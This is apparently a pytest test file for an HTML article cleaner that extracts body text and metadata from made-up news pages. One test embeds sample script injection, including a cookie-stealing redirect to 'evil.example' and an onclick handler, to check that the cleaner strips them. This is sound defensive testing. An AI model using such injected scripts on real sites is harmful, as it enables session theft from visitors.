"""HTML cleaning: article text and stated metadata, on pages written here for the purpose."""

from __future__ import annotations

import json

import pytest

from parallax.clean import html as html_mod
from parallax.clean import html_meta
from parallax.clean.html import clean_html, drop_furniture, furniture_kind
from parallax.clean.html_meta import iso_datetime
from parallax.errors import InputError
from parallax.model import OffsetMap

PARAGRAPHS = [
    "The harbour authority of Port Meridian approved a plan on Tuesday to rebuild the "
    "eastern breakwater, which was damaged by two winter storms last year.",
    "Engineers told the board that the new wall would be three metres higher than the old one "
    "and would take about eighteen months to finish, weather permitting.",
    "\u201cWe cannot afford another season like the last one,\u201d said Ana Ribeiro, who chairs "
    "the authority. \u201cThe fishing fleet lost almost a month of work.\u201d",
    "Local fishermen welcomed the decision but asked for temporary moorings on the western "
    "side of the bay while construction is under way.",
    "The project will be paid for with a regional grant and a loan from the national "
    "development bank, according to documents published by the authority.",
]

NAV = "<nav><ul><li><a href='/'>Home</a></li><li><a href='/world'>World</a></li>" \
      "<li><a href='/sport'>Sport</a></li><li><a href='/weather'>Weather</a></li></ul></nav>"
FOOTER = "<footer><p>\u00a9 2025 Meridian Media Group. All rights reserved.</p>" \
         "<p><a href='/privacy'>Privacy policy</a> | <a href='/terms'>Terms</a></p></footer>"


def article_page(
    *,
    head: str = "",
    header: str = "",
    paragraphs: list[str] | None = None,
    extra_body: str = "",
    lang: str = "en-GB",
) -> str:
    """A news page with navigation, share bar, related links and a footer around the article."""
    paras = "\n".join(f"<p>{p}</p>" for p in (paragraphs or PARAGRAPHS))
    return f"""<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta charset="utf-8">
<title>Port Meridian to rebuild storm-hit breakwater | Meridian Herald</title>
{head}
</head>
<body>
<header class="site-header">{NAV}</header>
<main>
<article>
  <header>
    <h1>Port Meridian to rebuild storm-hit breakwater</h1>
    {header}
  </header>
  <div class="share-bar"><a href="#">Share</a> <a href="#">Tweet</a> <a href="#">Email</a></div>
  <div class="article-body">
    {paras}
    {extra_body}
  </div>
  <aside class="related">
    <h3>Related stories</h3>
    <ul>
      <li><a href="/a">Storm season leaves fleet idle</a></li>
      <li><a href="/b">Regional grants announced for coastal towns</a></li>
      <li><a href="/c">Breakwater damage worse than feared</a></li>
    </ul>
  </aside>
</article>
</main>
{FOOTER}
</body>
</html>"""


FULL_HEAD = """
<link rel="canonical" href="https://herald.example/news/port-meridian-breakwater">
<meta property="og:site_name" content="Meridian Herald">
<meta property="og:title" content="Port Meridian to rebuild storm-hit breakwater">
<meta property="og:description" content="The harbour board approved a new, higher wall.">
<meta property="og:url" content="https://herald.example/news/port-meridian-breakwater">
<script type="application/ld+json">
{"@context": "https://schema.org", "@graph": [
  {"@type": "WebSite", "name": "Meridian Herald", "url": "https://herald.example/"},
  {"@type": "NewsArticle", "headline": "Port Meridian to rebuild storm-hit breakwater",
   "datePublished": "2024-03-05T14:30:00+01:00", "dateModified": "2024-03-06T09:00:00+01:00",
   "author": [{"@type": "Person", "name": "Lena Okafor"}],
   "publisher": {"@type": "Organization", "name": "Meridian Herald"}}
]}
</script>
"""


def test_article_page_body_and_metadata() -> None:
    doc = clean_html(article_page(head=FULL_HEAD, header="<p class='byline'>By Lena Okafor</p>"))
    assert doc.body == "\n\n".join(PARAGRAPHS)
    for furniture in ("Home", "Weather", "Tweet", "Storm season leaves", "Privacy", "2025"):
        assert furniture not in doc.body
    meta = doc.metadata
    assert meta.title == "Port Meridian to rebuild storm-hit breakwater"
    assert meta.subtitle == "The harbour board approved a new, higher wall."
    assert meta.author == "Lena Okafor"
    assert meta.outlet == "Meridian Herald"
    assert meta.url == "https://herald.example/news/port-meridian-breakwater"
    assert meta.published_at == "2024-03-05T14:30:00+01:00"
    assert meta.language == "en"
    assert meta.evidence["published_at"].rule == "json-ld:datePublished"
    assert meta.evidence["url"].rule == "link:canonical"
    assert meta.evidence["outlet"].rule == "meta:og:site_name"
    assert doc.offsets == OffsetMap()
    assert doc.source_text == ""


def test_no_date_stays_none_despite_footer_copyright() -> None:
    # Only a copyright year in the footer: htmldate would answer 2025-01-01 here.
    doc = clean_html(article_page())
    assert doc.metadata.published_at is None
    assert "published_at" not in doc.metadata.evidence
    # Nothing else is invented either.
    assert doc.metadata.author is None
    assert doc.metadata.url is None


def test_title_falls_back_to_title_element_without_site_suffix() -> None:
    page = article_page().replace("<h1>Port Meridian to rebuild storm-hit breakwater</h1>", "")
    page = page.replace("<title>", '<meta property="og:site_name" content="Meridian Herald">\n'
                        "<title>", 1)
    doc = clean_html(page)
    assert doc.metadata.title == "Port Meridian to rebuild storm-hit breakwater"
    assert doc.metadata.evidence["title"].rule == "title-element"


def test_meta_published_time_keeps_zone() -> None:
    head = '<meta property="article:published_time" content="2024-03-05T13:30:00Z">'
    doc = clean_html(article_page(head=head))
    assert doc.metadata.published_at == "2024-03-05T13:30:00+00:00"
    assert doc.metadata.evidence["published_at"].rule == "meta:article:published_time"


def test_visible_dateline_with_time_and_zone() -> None:
    header = '<div class="article-date">March 5, 2024, 2:30 PM EST</div>'
    doc = clean_html(article_page(header=header))
    assert doc.metadata.published_at == "2024-03-05T14:30:00-05:00"
    assert doc.metadata.evidence["published_at"].rule == "dateline"


def test_dateline_without_time_stays_a_date() -> None:
    header = '<span class="date">5 March 2024</span>'
    doc = clean_html(article_page(header=header))
    assert doc.metadata.published_at == "2024-03-05"


def test_dates_of_other_stories_and_updates_are_not_taken() -> None:
    header = '<p class="updated">Updated <time datetime="2024-03-07T08:00:00Z">7 March</time></p>'
    teaser = ('<aside class="related"><time datetime="2024-02-01T10:00:00Z">1 Feb</time>'
              '<a href="/x">Older story</a></aside>')
    doc = clean_html(article_page(header=header, extra_body=teaser))
    assert doc.metadata.published_at is None


def test_page_time_element_in_article_is_taken() -> None:
    header = '<time datetime="2024-03-05">5 March 2024</time>'
    doc = clean_html(article_page(header=header))
    assert doc.metadata.published_at == "2024-03-05"
    assert doc.metadata.evidence["published_at"].rule == "time:datetime"


def test_no_article_text_raises() -> None:
    page = f"""<html><head><title>Sign in</title></head><body>{NAV}
    <div class="login"><a href="/login">Log in</a> <a href="/signup">Sign up</a></div>
    {FOOTER}</body></html>"""
    with pytest.raises(InputError) as info:
        clean_html(page)
    assert info.value.reason == "no-article-text"
    assert "no article text" in info.value.message


@pytest.mark.parametrize("page", ["", "   \n", "just some words, not a page"])
def test_empty_or_non_html_raises_no_article_text(page: str) -> None:
    with pytest.raises(InputError) as info:
        clean_html(page)
    assert info.value.reason == "no-article-text"


def test_html_fragment_as_feeds_carry_it() -> None:
    fragment = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    doc = clean_html(fragment, {"title": "Breakwater plan approved"})
    assert doc.body == "\n\n".join(PARAGRAPHS)
    assert doc.metadata.title == "Breakwater plan approved"


def test_malicious_markup_stays_text() -> None:
    head = """<meta property="og:title" content="Breakwater &lt;script&gt;alert(1)&lt;/script&gt;">
    <script>stealCookies(document.cookie);</script>"""
    payload = ("The board also read a letter that said &lt;script&gt;alert('x')&lt;/script&gt; "
               "in its second line, which the clerk entered into the record without comment.")
    extra = '<script>window.location = "https://evil.example/" + stealCookies();</script>' \
            '<p onclick="stealCookies()">' + payload + "</p>"
    doc = clean_html(article_page(head=head, extra_body=extra))
    assert doc.metadata.title == "Breakwater <script>alert(1)</script>"
    assert "<script>alert('x')</script> in its second line" in doc.body
    assert "stealCookies" not in doc.body
    assert "evil.example" not in doc.body
    assert "onclick" not in doc.body


def test_control_characters_are_removed() -> None:
    paras = [p.replace("approved", "appro\x00ved\x1b") for p in PARAGRAPHS]
    doc = clean_html(article_page(paragraphs=paras))
    assert "\x00" not in doc.body and "\x1b" not in doc.body
    assert "approved a plan" in doc.body


def test_deeply_nested_html_does_not_crash() -> None:
    depth = 50_000
    page = ("<html><body>" + "<div>" * depth + "<p>" + PARAGRAPHS[0] + "</p>"
            + "</div>" * depth + "</body></html>")
    try:
        doc = clean_html(page)
    except InputError as exc:
        assert exc.reason == "no-article-text"
    else:
        assert PARAGRAPHS[0][:40] in doc.body


def test_deeply_nested_json_ld_is_ignored() -> None:
    head = '<script type="application/ld+json">' + "[" * 100_000 + "]" * 100_000 + "</script>"
    doc = clean_html(article_page(head=head))
    assert doc.body == "\n\n".join(PARAGRAPHS)


def test_oversized_page_is_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(html_mod, "MAX_HTML_CHARS", 1_000)
    with pytest.raises(InputError) as info:
        clean_html(article_page())
    assert info.value.reason == "oversized"


def test_fields_take_precedence_and_the_rest_comes_from_the_page() -> None:
    fields = {
        "title": "Container title",
        "author": ["Ana Ribeiro", "Lena Okafor"],
        "url": "https://archive.example/record/17",
        "published_at": "2024-03-04 09:15:00",
    }
    doc = clean_html(article_page(head=FULL_HEAD), fields)
    meta = doc.metadata
    assert meta.title == "Container title"
    assert meta.author == "Ana Ribeiro; Lena Okafor"
    assert meta.url == "https://archive.example/record/17"
    assert meta.published_at == "2024-03-04T09:15:00"
    assert meta.evidence["title"].rule == "field:title"
    assert meta.evidence["published_at"].rule == "field:published_at"
    # Fields the container did not state still come from the page.
    assert meta.outlet == "Meridian Herald"
    assert meta.evidence["outlet"].rule == "meta:og:site_name"


def test_unusable_field_value_falls_back_to_the_page() -> None:
    doc = clean_html(article_page(head=FULL_HEAD), {"published_at": "sometime last week"})
    assert doc.metadata.published_at == "2024-03-05T14:30:00+01:00"


def test_outlet_falls_back_to_url_domain() -> None:
    doc = clean_html(article_page(), {"url": "https://www.herald.example/news/1"})
    assert doc.metadata.outlet == "herald.example"
    assert doc.metadata.evidence["outlet"].rule == "url:domain"


def test_split_article_body_is_joined() -> None:
    first = PARAGRAPHS[:3]
    second = PARAGRAPHS[3:]
    page = article_page().replace(
        '<div class="article-body">',
        '<div class="chunks"><div class="row"><div class="article-body">'
        + "".join(f"<p>{p}</p>" for p in first)
        + '</div></div><div class="row ad"><div class="ad-slot">Advertisement</div></div>'
        '<div class="row"><div class="article-body">'
        + "".join(f"<p>{p}</p>" for p in second)
        + "</div></div></div><div>",
        1,
    )
    doc = clean_html(page)
    for p in PARAGRAPHS:
        assert p in doc.body


def test_link_list_inside_article_is_dropped() -> None:
    more = ("<h3>More stories</h3><ul>"
            + "".join(f'<li><a href="/s{i}">Teaser headline number {i} about the coast</a></li>'
                      for i in range(5))
            + "</ul>")
    doc = clean_html(article_page(extra_body=more))
    assert "Teaser headline" not in doc.body
    assert doc.body == "\n\n".join(PARAGRAPHS)


def test_furniture_lines_inside_article_are_dropped() -> None:
    extra = ("<p>Follow us on Twitter @meridianherald for the latest updates.</p>"
             "<p>Sign up for our morning newsletter to get the news in your inbox.</p>"
             "<p>Reporting by Lena Okafor; editing by Tom Hale.</p>")
    doc = clean_html(article_page(extra_body=extra))
    assert doc.body == "\n\n".join(PARAGRAPHS)


def test_drop_furniture_keeps_article_sentences() -> None:
    lines = [
        "Related: Storm season leaves fleet idle",
        "- Breakwater damage worse than feared",
        "Reporters follow him on Twitter to learn where he will speak next.",
        "Port Meridian to rebuild storm-hit breakwater",
        "4 min read",
        "The vote is set for November 20, 2019.",
        "More: https://herald.example/a and https://herald.example/b",
    ]
    kept = drop_furniture(lines, title="Port Meridian to rebuild storm-hit breakwater")
    assert kept == [
        "Reporters follow him on Twitter to learn where he will speak next.",
        "The vote is set for November 20, 2019.",
    ]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("Don't miss", "related"),
        ("READ MORE: Breakwater damage worse than feared", "related"),
        ("Share this article", "share"),
        ("Follow Meridian Herald on Facebook", "follow"),
        ("Tempo de leitura: 2 minutos", "read-time"),
        ("Additional reporting by Lena Okafor", "credit"),
        ("\u00a9 2025 Meridian Media Group", "copyright"),
        ("This copy is for your personal, non-commercial use only. To order copies, call us.",
         "copyright"),
        ("This material may not be published, broadcast, rewritten or redistributed.",
         "copyright"),
        ("The photos were licensed for personal, non-commercial use only, the agency said.", None),
        ("Updated at 1:23 p.m.", "timestamp"),
        ("Associated Press writer Tom Hale contributed to this report.", "credit"),
        ("More", "related"),
        ("The harbour authority approved the plan on Tuesday.", None),
        ("Also: the council will vote next week on the budget.", None),
        ("Copyright law in the EU was reformed in 2019.", None),
        ("She contributed reporting to the 2019 investigation into fraud.", None),
        ("Read more about the plan in our explainer.", None),
        ("Subscribers to the newsletter complained about the change.", None),
        ("Published in 2019, the report found that costs had doubled.", None),
        ("\u201cWe cannot afford another season like the last one,\u201d she said.", None),
    ],
)
def test_furniture_kind(line: str, kind: str | None) -> None:
    assert furniture_kind(line) == kind


def test_dateline_line_only_at_the_top() -> None:
    lines = ["November 20, 2019 - 11:28 GMT", *PARAGRAPHS[:3], "4:14 p.m.", PARAGRAPHS[3]]
    kept = drop_furniture(lines)
    assert kept == [*PARAGRAPHS[:3], "4:14 p.m.", PARAGRAPHS[3]]


@pytest.mark.parametrize(
    ("raw", "iso"),
    [
        ("2019-11-19T10:45:00Z", "2019-11-19T10:45:00+00:00"),
        ("2019-11-19T10:45:00.000+0530", "2019-11-19T10:45:00+05:30"),
        ("2019-11-19 10:45", "2019-11-19T10:45:00"),
        ("2019-11-19", "2019-11-19"),
        ("20191119", "2019-11-19"),
        ("Tue, 19 Nov 2019 10:45:00 GMT", "2019-11-19T10:45:00+00:00"),
        ("19 November 2019", "2019-11-19"),
        ("2019-11-18 17:19:53 GMT", "2019-11-18T17:19:53+00:00"),
        ("2019-11-19T10:45:00+01", "2019-11-19T10:45:00+01:00"),
        ("2019-11-19T10:45:00,250Z", "2019-11-19T10:45:00+00:00"),
        ("Fri 6:45 PM, Feb 16, 2018", "2018-02-16T18:45:00"),
        ("0001-01-01T00:00:00Z", None),
        ("1970-01-01", None),
        ("2999-01-01", None),
        ("2019-02-30", None),
        ("yesterday", None),
        ("", None),
    ],
)
def test_iso_datetime(raw: str, iso: str | None) -> None:
    assert iso_datetime(raw) == iso


def test_iso_datetime_reads_month_names_in_the_given_language() -> None:
    assert iso_datetime("22 de outubro de 2010", ("pt", "en")) == "2010-10-22"
    assert iso_datetime("22 de outubro de 2010") is None  # English only: no such month


def test_dateline_with_time_before_date_keeps_time_and_zone() -> None:
    header = '<div class="byline">Ana Ribeiro Published 11:11 PM EST Mar 5, 2024</div>'
    doc = clean_html(article_page(header=header))
    assert doc.metadata.published_at == "2024-03-05T23:11:00-05:00"
    assert doc.metadata.evidence["published_at"].rule == "dateline"


def test_dateline_in_the_page_language() -> None:
    header = '<span class="date">5 de março de 2024</span>'
    doc = clean_html(article_page(header=header, lang="pt-BR"))
    assert doc.metadata.published_at == "2024-03-05"
    assert doc.metadata.language == "pt"


def test_evidence_is_listed_in_field_order() -> None:
    doc = clean_html(article_page(head=FULL_HEAD))
    order = [f for f in html_meta.FIELDS if f in doc.metadata.evidence]
    assert list(doc.metadata.evidence) == order
    assert "language" in order and "published_at" in order


def test_json_ld_author_list_and_publisher() -> None:
    ld = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": "Harbour &amp; port plan approved",
        "author": [{"@type": "Person", "name": "Ana Ribeiro"}, {"name": "Tom Hale"}],
        "publisher": {"@type": "Organization", "name": "Coastal Wire"},
        "datePublished": "2024-03-05",
        "inLanguage": "pt-BR",
    }
    head = f'<script type="application/ld+json">{json.dumps(ld)}</script>'
    doc = clean_html(article_page(head=head, lang=""))
    meta = doc.metadata
    assert meta.title == "Harbour & port plan approved"  # script text is entity-decoded here
    assert meta.author == "Ana Ribeiro; Tom Hale"
    assert meta.outlet == "Coastal Wire"
    assert meta.published_at == "2024-03-05"
    assert meta.language == "pt"
